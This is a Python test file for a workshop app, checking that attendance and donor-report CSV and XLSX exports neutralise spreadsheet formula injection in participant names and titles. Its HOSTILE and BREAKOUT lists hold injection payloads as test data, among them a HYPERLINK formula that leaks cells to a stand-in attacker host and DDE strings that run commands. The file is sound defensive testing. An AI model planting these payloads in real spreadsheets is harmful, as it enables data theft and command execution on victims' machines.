"""Text never becomes a formula: names, organisations and titles a hostile user typed, in every
spreadsheet the app writes (attendance CSV and XLSX, donor report), reopened the way people open them."""

from __future__ import annotations

import csv
import re
import zipfile

import openpyxl
import pytest

from workshop_kit import attendance, exports, report, spreadsheet_text
from workshop_kit.workshops import update_workshop

# Formula and DDE payloads, plus the strings of the Big List of Naughty Strings that spreadsheets
# turned into numbers or commands (issue 18): each must come back as the very text stored.
HOSTILE = [
    "=6*7",
    '=HYPERLINK("http://attacker.invalid/?leak="&C2&D2,"Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1/2",
    "+++ATH0",
    '@{[system "touch /tmp/blns.fail"]}',
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
# Not formulas by themselves, but built to break out of a CSV cell: they must come back unchanged.
BREAKOUT = ['";=1+1', "x;=1+1", 'a","=2+2']
ALL = HOSTILE + BREAKOUT


@pytest.fixture
def hostile(db, demo):
    """Twelve demo participants renamed to hostile strings (stored as they were typed or imported)."""
    g = attendance.grid(db, demo.id)
    for i, row in enumerate(g.rows):
        value, other = ALL[i % len(ALL)], ALL[(i + 12) % len(ALL)]
        db.execute("UPDATE participants SET first_name = ?, last_name = NULL, organisation_name = ?, city = ?"
                   " WHERE id = ?", [value, other, other, row.participant.id])
        for s in g.sessions[:2]:
            attendance.set_status(db, s.id, row.participant.id, "present")
    update_workshop(db, demo.id, title="=1+2 workshop", city="-Rabat")
    return demo


def test_one_rule_for_every_writer():
    for value in HOSTILE:
        assert spreadsheet_text.looks_like_formula(value), value
        assert spreadsheet_text.csv_text(value) == "'" + value
    for value in ("Fatima El Idrissi", "فاطمة", "2026-03-14", "", "a=b", " =1"):
        assert not spreadsheet_text.looks_like_formula(value)
        assert spreadsheet_text.csv_text(value) == value
    assert spreadsheet_text.csv_text(-3) == -3 and spreadsheet_text.csv_text(None) is None


def test_csv_export_neutralises_every_hostile_cell(db, hostile, tmp_path):
    path = exports.export(db, hostile.id, "csv", tmp_path / "a.csv", lang="en")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for r in rows[1:] for c in r[:3]]
    assert cells, "the export has rows"
    for cell in cells:
        if cell:
            assert cell[0] not in "=+-@\t\r", repr(cell)
    stored = {c[1:] if c.startswith("'") else c for c in cells}
    assert set(ALL) <= stored  # the text itself is kept, after the one apostrophe


def _xml_of(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def _assert_text_cells(path, expected: set[str]) -> None:
    assert not re.search(r"<f[\s>/]", _xml_of(path)), "a formula element was written"
    wb = openpyxl.load_workbook(path)
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in expected:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    found.add(cell.value)
    assert found == expected


def test_attendance_xlsx_keeps_hostile_text_as_text(db, hostile, tmp_path):
    path = exports.export(db, hostile.id, "xlsx", tmp_path / "a.xlsx", lang="en")
    _assert_text_cells(path, set(ALL))


def test_donor_report_with_names_keeps_hostile_text_as_text(db, hostile, tmp_path):
    path = tmp_path / "report.xlsx"
    report.write_xlsx(report.build_report(db, hostile.id, with_names=True, lang="en"), path)
    _assert_text_cells(path, set(ALL) | {"=1+2 workshop", "-Rabat"})
